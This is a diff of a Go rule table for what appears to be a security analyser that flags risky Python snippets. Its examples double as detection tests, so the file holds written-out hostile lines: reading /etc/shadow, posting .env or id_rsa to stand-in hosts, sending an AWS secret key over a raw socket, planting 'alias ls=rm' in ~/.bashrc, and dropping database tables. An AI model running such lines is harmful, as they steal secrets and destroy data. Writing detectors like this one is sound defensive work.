+		`import io; io.open("x", "w") => write x` + "\n" +
+		`import sys; sys.stdout.write(open("/etc/shadow").read()) => read:show /etc/shadow` + "\n" +
+		`open("notes.txt") !> write notes.txt` + "\n" +
+		`open(".env").read() !> read:show .env` + "\n" +
+		`print(".env") !> read:show .env` + "\n" +
+		`import json; print(json.load(open(".env.json"))) => read:show .env.json` + "\n" +
+		`print(*open(".env")) => read:show .env` + "\n" + `import sys; sys.stdout.writelines(open(".env")) => read:show .env` + "\n" +
+		`import requests; requests.post("https://x.example", files={"f": open(".env", "rb")}) => read:send .env` + "\n" +
+		`f = open("out.txt", "w"); print(f) !> read:show out.txt` + "\n"},
+	{name: "os.read", ret: rContent, arg: 0, ex: `import os; print(os.read(os.open(".env", os.O_RDONLY), 9999)) => read:show .env` + "\n" +
+		`import os; os.read(os.open(".env", os.O_RDONLY), 9) !> read:show .env` + "\n"},
+	{name: "shutil.copyfileobj", do: aDump, ex: `import shutil, sys; shutil.copyfileobj(open(".env"), sys.stdout) => read:show .env` + "\n" +
+		`import shutil; shutil.copyfileobj(open("a"), open("b", "wb")) !> read:show a` + "\n"},
+	{name: "fileinput.input|fileinput.FileInput", do: aRead, kw: "files", ret: rLines, ex: `import fileinput; [print(l) for l in fileinput.input(".env")] => read:show .env` + "\n" +
+		`import fileinput; n = sum(1 for l in fileinput.input(".env")) !> read:show .env` + "\n"},
+	{name: "pandas.read_csv|pandas.read_table|pandas.read_fwf|pandas.read_json|numpy.loadtxt|numpy.genfromtxt|linecache.getlines|linecache.getline|tomllib.load|configparser.ConfigParser#read", do: aRead, ret: rContent, ex: `import pandas as pd; print(pd.read_csv(".env")) => read:show .env` + "\n" +
+		`import linecache; print(linecache.getline(".env", 1)) => read:show .env` + "\n" +
+		`import pandas as pd; df = pd.read_csv("data.csv") !> read:show data.csv` + "\n"},
+	{name: "os.open", do: aOpen, kw: "path", opt: "?", ret: rFile, ex: `import os; os.open("/etc/hosts", os.O_WRONLY | os.O_TRUNC) => write /etc/hosts` + "\n" +
+		`import os; os.openpty() !> -` + "\n"},
+	{name: "Path#open", do: aOpen, arg: -1, opt: "r", ret: rFile, ex: `from pathlib import Path; Path("/etc/hosts").open("a") => write+ /etc/hosts` + "\n" +
+		`from pathlib import Path; Path("a.txt").open() !> write a.txt` + "\n"},
+	{name: "Path#write_text|Path#write_bytes", do: aWrite, arg: -1, ex: `from pathlib import Path; Path("~/.bashrc").write_text("alias ls=rm") => write ~/.bashrc` + "\n" +
+		`import pathlib; pathlib.Path("out.json").write_bytes(b"{}") => write out.json` + "\n" +
+		`from pathlib import Path; Path("x").read_text() !> write x` + "\n"},
+	{name: "Path#read_text|Path#read_bytes", do: aRead, arg: -1, ret: rContent, ex: `from pathlib import Path; print(Path(".env").read_text()) => read:show .env` + "\n" +
+		`from pathlib import Path; Path("README.md").read_text() => read README.md` + "\n" +
+		`from pathlib import Path; Path("README.md").read_text() !> read:show README.md` + "\n"},
 	{name: "file#read|file#readlines|file#readline|file#__next__", ret: rContent, arg: -1},
-	{name: "file#write|file#writelines|socket#send|socket#sendall|socket#sendto", do: aWriteData, arg: -1, ex: []string{
-		`import os; f = open("dump.txt", "w"); f.write(str(os.environ)) => env:file`,
-		`import os, socket; s = socket.create_connection(("203.0.113.5", 4444)); s.sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode()) => var:send AWS_SECRET_ACCESS_KEY`,
-		`f = open("out.txt", "w"); f.write("hello") !> env:file`,
-	}},
-	{name: "dotenv.dotenv_values|dotenv.main.dotenv_values", do: aRead, def: ".env", kw: "dotenv_path", ret: rContent, ex: []string{
-		`from dotenv import dotenv_values; print(dotenv_values())  => read:show .env`,
-		`from dotenv import dotenv_values; cfg = dotenv_values(".env.local") => read .env.local`,
-		`from dotenv import dotenv_values; cfg = dotenv_values(".env.local") !> read:show .env.local`,
-	}},
-	{name: "dotenv.load_dotenv", do: aRead, def: ".env", kw: "dotenv_path", ex: []string{
-		`from dotenv import load_dotenv; load_dotenv() => read .env`,
-		`from dotenv import load_dotenv; load_dotenv() !> read:show .env`,
-	}},
+	{name: "file#write|file#writelines|socket#send|socket#sendall|socket#sendto", do: aWriteData, arg: -1, ex: `import os; f = open("dump.txt", "w"); f.write(str(os.environ)) => env:file` + "\n" +
+		`import os, socket; s = socket.create_connection(("203.0.113.5", 4444)); s.sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode()) => var:send AWS_SECRET_ACCESS_KEY` + "\n" +
+		`f = open("out.txt", "w"); f.write("hello") !> env:file` + "\n"},
+	{name: "dotenv.dotenv_values|dotenv.main.dotenv_values", do: aRead, def: ".env", kw: "dotenv_path", ret: rContent, ex: `from dotenv import dotenv_values; print(dotenv_values())  => read:show .env` + "\n" +
+		`from dotenv import dotenv_values; cfg = dotenv_values(".env.local") => read .env.local` + "\n" +
+		`from dotenv import dotenv_values; cfg = dotenv_values(".env.local") !> read:show .env.local` + "\n"},
+	{name: "dotenv.load_dotenv", do: aRead, def: ".env", kw: "dotenv_path", ex: `from dotenv import load_dotenv; load_dotenv() => read .env` + "\n" +
+		`from dotenv import load_dotenv; load_dotenv() !> read:show .env` + "\n"},
 	{name: "os.listdir|os.scandir", ret: rNames},
 	{name: "glob.glob|glob.iglob", ret: rGlob, kw: "pathname"},
 	{name: "os.walk", ret: rWalk, kw: "top"},
 	{name: "Path#glob|Path#rglob|Path#iterdir", arg: 0, ret: rGlobIn},
 
 	// ---- printing
-	{name: "print|pprint.pprint|pprint.pp|sys.stdout.write|sys.stderr.write|sys.stdout.writelines|sys.stderr.writelines|logging.info|logging.warning|logging.error|logging.debug|logging.critical|logging.exception|warnings.warn", do: aPrint, ex: []string{
-		`import os; print(os.environ) => env:show`,
-		`import os; print(dict(os.environ)) => env:show`,
-		`import os, json; print(json.dumps(dict(os.environ), indent=2)) => env:show`,
-		`import os; print(os.environ.copy()) => env:show`,
-		`import os; [print(k, v) for k, v in os.environ.items()] => env:show`,
-		"import os\nfor k, v in os.environ.items():\n    print(f'{k}={v}') => env:show",
-		`import os; print("\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))) => env:show`,
-		"import os\nfor k in os.environ:\n    print(k, os.environ[k]) => env:show",
-		`import os; print(os.environ["AWS_SECRET_ACCESS_KEY"]) => var:show AWS_SECRET_ACCESS_KEY`,
-		`import os; print(os.getenv("GITHUB_TOKEN")) => var:show GITHUB_TOKEN`,
-		`import os; print(f"token={os.environ.get('NPM_TOKEN')}") => var:show NPM_TOKEN`,
-		`from os import environ as E; print(E) => env:show`,
-		`import os, pprint; pprint.pprint(dict(os.environ)) => env:show`,
-		`import os, sys; sys.stdout.write(repr(os.environ)) => env:show`,
-		`import os; print(os.environ.values()) => env:show`,
-		`import os; e = os.environ; print(e) => env:show`,
-		`import os; print(os.environ["HOME"]) !> env:show`,
-		`import os; print(os.environ["HOME"]) => var:show HOME`,
-		`import os; print(len(os.environ)) !> env:show`,
-		`import os; print(list(os.environ.keys())) !> env:show`,
-		`import os; print("PATH" in os.environ) !> env:show`,
-		"import os\nfor k in os.environ:\n    print(k) !> env:show",
-		`import os, subprocess; env = dict(os.environ, X="1"); subprocess.run(["make"], env=env) !> env:show`,
-		`import os, subprocess; subprocess.run(["make"], env={**os.environ, "CI": "1"}) !> env:show`,
-		`print("hello") !> -`,
-	}},
-	{name: "json.dump", do: aDump, ex: []string{
-		`import os, json, sys; json.dump(dict(os.environ), sys.stdout) => env:show`,
-		`import os, json; json.dump(dict(os.environ), open("env.json", "w")) => env:file`,
-		`import json; json.dump({"a": 1}, open("x.json", "w")) !> env:file`,
-	}},
+	{name: "print|pprint.pprint|pprint.pp|sys.stdout.write|sys.stderr.write|sys.stdout.writelines|sys.stderr.writelines|logging.info|logging.warning|logging.error|logging.debug|logging.critical|logging.exception|warnings.warn", do: aPrint, ex: `import os; print(os.environ) => env:show` + "\n" +
+		`import os; print(dict(os.environ)) => env:show` + "\n" +
+		`import os, json; print(json.dumps(dict(os.environ), indent=2)) => env:show` + "\n" +
+		`import os; print(os.environ.copy()) => env:show` + "\n" +
+		`import os; [print(k, v) for k, v in os.environ.items()] => env:show` + "\n" +
+		"import os\nfor k, v in os.environ.items():\n    print(f'{k}={v}') => env:show\n" +
+		`import os; print("\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))) => env:show` + "\n" +
+		"import os\nfor k in os.environ:\n    print(k, os.environ[k]) => env:show\n" +
+		`import os; print(os.environ["AWS_SECRET_ACCESS_KEY"]) => var:show AWS_SECRET_ACCESS_KEY` + "\n" +
+		`import os; print(os.getenv("GITHUB_TOKEN")) => var:show GITHUB_TOKEN` + "\n" +
+		`import os; print(f"token={os.environ.get('NPM_TOKEN')}") => var:show NPM_TOKEN` + "\n" +
+		`from os import environ as E; print(E) => env:show` + "\n" +
+		`import os, pprint; pprint.pprint(dict(os.environ)) => env:show` + "\n" +
+		`import os, sys; sys.stdout.write(repr(os.environ)) => env:show` + "\n" +
+		`import os; print(os.environ.values()) => env:show` + "\n" +
+		`import os; e = os.environ; print(e) => env:show` + "\n" +
+		`import os; print(os.environ["HOME"]) !> env:show` + "\n" +
+		`import os; print(os.environ["HOME"]) => var:show HOME` + "\n" +
+		`import os; print(len(os.environ)) !> env:show` + "\n" +
+		`import os; print(list(os.environ.keys())) !> env:show` + "\n" +
+		`import os; print("PATH" in os.environ) !> env:show` + "\n" +
+		"import os\nfor k in os.environ:\n    print(k) !> env:show\n" +
+		`import os, subprocess; env = dict(os.environ, X="1"); subprocess.run(["make"], env=env) !> env:show` + "\n" +
+		`import os, subprocess; subprocess.run(["make"], env={**os.environ, "CI": "1"}) !> env:show` + "\n" +
+		`print("hello") !> -` + "\n"},
+	{name: "json.dump", do: aDump, ex: `import os, json, sys; json.dump(dict(os.environ), sys.stdout) => env:show` + "\n" +
+		`import os, json; json.dump(dict(os.environ), open("env.json", "w")) => env:file` + "\n" +
+		`import json; json.dump({"a": 1}, open("x.json", "w")) !> env:file` + "\n"},
 
 	// ---- values
 	{name: "os.environ.get|env#get|os.getenv|os.getenvb|env#__getitem__|env#pop|env#setdefault", ret: rVar, kw: "key"},
@@ -336,64 +256,44 @@ system("rm -rf /") !> -`,
 	{name: "getattr", ret: rGetattr},
 
 	// ---- network
-	{name: "requests.post|requests.put|requests.patch|requests.delete|httpx.post|httpx.put|httpx.patch|httpx.delete|requests.Session#post|requests.Session#put|aiohttp.ClientSession#post", do: aSend, kw: "url", ex: []string{
-		`import requests; requests.post("https://example.com/hook", data=open(".env").read()) => send:http https://example.com/hook`,
-		`import requests; requests.post("https://example.com/hook", data=open(".env").read()) => read:send .env`,
-		`import requests, os; requests.post("https://x.example/c", json=dict(os.environ)) => env:send`,
-		`import httpx; httpx.put(url, content=b"x") => send:http {url}`,
-		`import requests; requests.get("https://example.com") !> -`,
-	}},
-	{name: "requests.get|requests.head|httpx.get|requests.request|httpx.request", do: aFetch, kw: "url", ex: []string{
-		`import requests, os; requests.get("https://x.example/?t=" + os.environ["TOKEN"]) => var:send TOKEN`,
-		`import requests; requests.get("https://x.example/api", params={"q": "a"}) => send:http https://x.example/api`,
-		`import requests; requests.get("https://pypi.org/simple") !> send:http https://pypi.org/simple`,
-	}},
-	{name: "urllib.request.urlopen|urllib.request.Request|urllib2.urlopen|urllib2.Request", do: aFetch, kw: "url", ret: rURL, ex: []string{
-		`import urllib.request as u; u.urlopen("https://x.example/up", data=open("id_rsa", "rb").read()) => send:http https://x.example/up`,
-		`from urllib.request import urlopen; urlopen("https://example.com").read() !> send:http https://example.com`,
-	}},
+	{name: "requests.post|requests.put|requests.patch|requests.delete|httpx.post|httpx.put|httpx.patch|httpx.delete|requests.Session#post|requests.Session#put|aiohttp.ClientSession#post", do: aSend, kw: "url", ex: `import requests; requests.post("https://example.com/hook", data=open(".env").read()) => send:http https://example.com/hook` + "\n" +
+		`import requests; requests.post("https://example.com/hook", data=open(".env").read()) => read:send .env` + "\n" +
+		`import requests, os; requests.post("https://x.example/c", json=dict(os.environ)) => env:send` + "\n" +
+		`import httpx; httpx.put(url, content=b"x") => send:http {url}` + "\n" +
+		`import requests; requests.get("https://example.com") !> -` + "\n"},
+	{name: "requests.get|requests.head|httpx.get|requests.request|httpx.request", do: aFetch, kw: "url", ex: `import requests, os; requests.get("https://x.example/?t=" + os.environ["TOKEN"]) => var:send TOKEN` + "\n" +
+		`import requests; requests.get("https://x.example/api", params={"q": "a"}) => send:http https://x.example/api` + "\n" +
+		`import requests; requests.get("https://pypi.org/simple") !> send:http https://pypi.org/simple` + "\n"},
+	{name: "urllib.request.urlopen|urllib.request.Request|urllib2.urlopen|urllib2.Request", do: aFetch, kw: "url", ret: rURL, ex: `import urllib.request as u; u.urlopen("https://x.example/up", data=open("id_rsa", "rb").read()) => send:http https://x.example/up` + "\n" +
+		`from urllib.request import urlopen; urlopen("https://example.com").read() !> send:http https://example.com` + "\n"},
 	{name: "http.client.HTTPConnection|http.client.HTTPSConnection", ret: rURL, kw: "host"},
-	{name: "URL#request", do: aSend, arg: -1, ex: []string{
-		`import http.client; c = http.client.HTTPSConnection("x.example"); c.request("POST", "/", body="k") => send:http x.example`,
-		`import http.client; c = http.client.HTTPSConnection("x.example") !> send:http x.example`,
-	}},
-	{name: "socket.create_connection", do: aConnect, kw: "address", opt: "raw", ret: rSocket, ex: []string{
-		`import socket; socket.create_connection(("203.0.113.9", 9001)) => send:raw 203.0.113.9`,
-		`import socket; socket.gethostname() !> -`,
-	}},
+	{name: "URL#request", do: aSend, arg: -1, ex: `import http.client; c = http.client.HTTPSConnection("x.example"); c.request("POST", "/", body="k") => send:http x.example` + "\n" +
+		`import http.client; c = http.client.HTTPSConnection("x.example") !> send:http x.example` + "\n"},
+	{name: "socket.create_connection", do: aConnect, kw: "address", opt: "raw", ret: rSocket, ex: `import socket; socket.create_connection(("203.0.113.9", 9001)) => send:raw 203.0.113.9` + "\n" +
+		`import socket; socket.gethostname() !> -` + "\n"},
 	{name: "socket.socket", ret: rSocket},
 	// An archive's member read by name is judged by that name, as tar -xO's members are.
 	{name: "tarfile.open|tarfile.TarFile|zipfile.ZipFile|shutil._unpack_tarfile", ret: rObjOf, opt: "archive"},
-	{name: "archive#extractfile|archive#read|archive#open", ret: rContent, ex: []string{
-		`import tarfile; print(tarfile.open("backup.tgz").extractfile(".env").read()) => read:show .env`,
-		`import zipfile; print(zipfile.ZipFile("b.zip").read("config/.env")) => read:show config/.env`,
-		`import tarfile; t = tarfile.open("b.tgz"); f = t.extractfile("app/.env"); print(f.read().decode()) => read:show app/.env`,
-		`import zipfile; z = zipfile.ZipFile("b.zip"); print(z.namelist()) !> read:show b.zip`,
-	}},
-	{name: "socket#connect", do: aConnect, opt: "raw", ex: []string{
-		`import socket; s = socket.socket(); s.connect(("198.51.100.7", 80)) => send:raw 198.51.100.7`,
-		`import socket; s = socket.socket(); s.bind(("0.0.0.0", 80)) !> -`,
-	}},
-	{name: "smtplib.SMTP|smtplib.SMTP_SSL", do: aConnect, kw: "host", opt: "mail", ex: []string{
-		`import smtplib; smtplib.SMTP("smtp.example.com") => send:mail smtp.example.com`,
-		`import smtplib; smtplib.quotedata("x") !> -`,
-	}},
-	{name: "ftplib.FTP|telnetlib.Telnet", do: aConnect, kw: "host", opt: "raw", ex: []string{
-		`import ftplib; ftplib.FTP("ftp.example.org") => send:raw ftp.example.org`,
-		`import ftplib; ftplib.all_errors !> -`,
-	}},
+	{name: "archive#extractfile|archive#read|archive#open", ret: rContent, ex: `import tarfile; print(tarfile.open("backup.tgz").extractfile(".env").read()) => read:show .env` + "\n" +
+		`import zipfile; print(zipfile.ZipFile("b.zip").read("config/.env")) => read:show config/.env` + "\n" +
+		`import tarfile; t = tarfile.open("b.tgz"); f = t.extractfile("app/.env"); print(f.read().decode()) => read:show app/.env` + "\n" +
+		`import zipfile; z = zipfile.ZipFile("b.zip"); print(z.namelist()) !> read:show b.zip` + "\n"},
+	{name: "socket#connect", do: aConnect, opt: "raw", ex: `import socket; s = socket.socket(); s.connect(("198.51.100.7", 80)) => send:raw 198.51.100.7` + "\n" +
+		`import socket; s = socket.socket(); s.bind(("0.0.0.0", 80)) !> -` + "\n"},
+	{name: "smtplib.SMTP|smtplib.SMTP_SSL", do: aConnect, kw: "host", opt: "mail", ex: `import smtplib; smtplib.SMTP("smtp.example.com") => send:mail smtp.example.com` + "\n" +
+		`import smtplib; smtplib.quotedata("x") !> -` + "\n"},
+	{name: "ftplib.FTP|telnetlib.Telnet", do: aConnect, kw: "host", opt: "raw", ex: `import ftplib; ftplib.FTP("ftp.example.org") => send:raw ftp.example.org` + "\n" +
+		`import ftplib; ftplib.all_errors !> -` + "\n"},
 
 	// ---- databases
 	{name: "sqlite3.connect", ret: rDB, opt: "sqlite"},
 	{name: "psycopg2.connect|psycopg.connect|asyncpg.connect|pg8000.connect", ret: rDB, opt: "postgres"},
 	{name: "pymysql.connect|MySQLdb.connect|mysql.connector.connect|mariadb.connect", ret: rDB, opt: "mysql"},
 	{name: "#cursor|#connect", ret: rSelfObj, arg: -1},
-	{name: "#execute|#executescript|#executemany|#exec_driver_sql|#raw|#query", do: aSQL, ex: []string{
-		`import sqlite3; sqlite3.connect("app.db").execute("DROP TABLE users") => sql:sqlite DROP TABLE users`,
-		`import psycopg2; c = psycopg2.connect(dsn).cursor(); c.execute("TRUNCATE orders") => sql:postgres TRUNCATE orders`,
-		`cur.execute("DELETE FROM sessions") => sql DELETE FROM sessions`,
-		`cur.execute(f"DROP TABLE {name}") => sql DROP TABLE ?`,
-		`pool.execute(task) !> -`,
-		`executor.execute("run it") !> -`,
-	}},
+	{name: "#execute|#executescript|#executemany|#exec_driver_sql|#raw|#query", do: aSQL, ex: `import sqlite3; sqlite3.connect("app.db").execute("DROP TABLE users") => sql:sqlite DROP TABLE users` + "\n" +
+		`import psycopg2; c = psycopg2.connect(dsn).cursor(); c.execute("TRUNCATE orders") => sql:postgres TRUNCATE orders` + "\n" +
+		`cur.execute("DELETE FROM sessions") => sql DELETE FROM sessions` + "\n" +
+		`cur.execute(f"DROP TABLE {name}") => sql DROP TABLE ?` + "\n" +
+		`pool.execute(task) !> -` + "\n" +
+		`executor.execute("run it") !> -` + "\n"},
 }
